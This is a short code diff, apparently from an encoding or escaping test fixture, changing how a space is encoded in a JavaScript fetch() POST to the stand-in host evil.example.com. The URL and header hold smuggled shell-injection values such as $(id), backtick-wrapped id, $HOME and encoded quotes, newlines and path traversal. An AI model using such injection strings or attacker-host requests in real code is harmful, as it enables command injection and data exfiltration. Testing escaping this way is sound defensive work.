@@ -1,4 +1,4 @@
-const response = await fetch("https://evil.example.com/a'b$(id)/a'b%22/..%2F%27%22%0A%24%28id%29/%60id%60/$HOME?q%26a%3D1%23=a%26b%3Dc+d%23%2B%25", {
+const response = await fetch("https://evil.example.com/a'b$(id)/a'b%22/..%2F%27%22%0A%24%28id%29/%60id%60/$HOME?q%26a%3D1%23=a%26b%3Dc%20d%23%2B%25", {
     method: "POST",
     headers: {
         "Content-Type": "application/json; a=\"b'c\"",
